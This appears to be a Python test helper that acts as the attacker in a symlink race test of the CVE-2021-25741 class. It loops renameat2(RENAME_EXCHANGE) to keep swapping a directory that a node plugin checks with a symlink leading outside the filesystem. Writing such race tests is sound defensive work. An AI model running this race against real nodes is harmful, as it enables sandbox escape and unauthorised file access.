"""Swaps two paths with renameat2(RENAME_EXCHANGE) in a tight loop until killed.

The attacker of the sub-dir race test (CVE-2021-25741 class): a directory checked by the node
plugin is exchanged with a symlink that leads out of the filesystem, over and over. Node has no
renameat2, coreutils 9.1 no `mv --exchange`; Python's ctypes reaches glibc's wrapper.
"""
import ctypes
import sys

AT_FDCWD = -100
RENAME_EXCHANGE = 2

libc = ctypes.CDLL(None, use_errno=True)
first, second = (path.encode() for path in sys.argv[1:3])
if libc.renameat2(AT_FDCWD, first, AT_FDCWD, second, RENAME_EXCHANGE) != 0:
    sys.exit(f"renameat2: errno {ctypes.get_errno()}")
print("swapping", flush=True)
while True:
    libc.renameat2(AT_FDCWD, first, AT_FDCWD, second, RENAME_EXCHANGE)
